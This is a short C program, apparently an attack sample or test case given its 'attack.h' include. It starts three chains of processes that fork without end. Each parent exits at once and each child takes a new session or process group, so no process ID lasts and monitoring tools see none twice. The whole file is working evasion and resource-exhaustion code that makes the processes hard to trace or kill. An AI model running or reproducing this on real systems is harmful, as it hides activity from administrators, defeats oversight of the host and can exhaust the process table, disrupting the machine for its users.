/* Processes that live for an instant each: whoever looks for them sees none twice. */
#include "attack.h"

int main(void)
{
    for (int chain = 0; chain < 3; chain++) {
        if (fork() == 0) {
            setsid();
            for (;;) {
                if (fork() != 0) {
                    _exit(0);
                }
                setpgid(0, 0);
            }
        }
    }
    return 0;
}
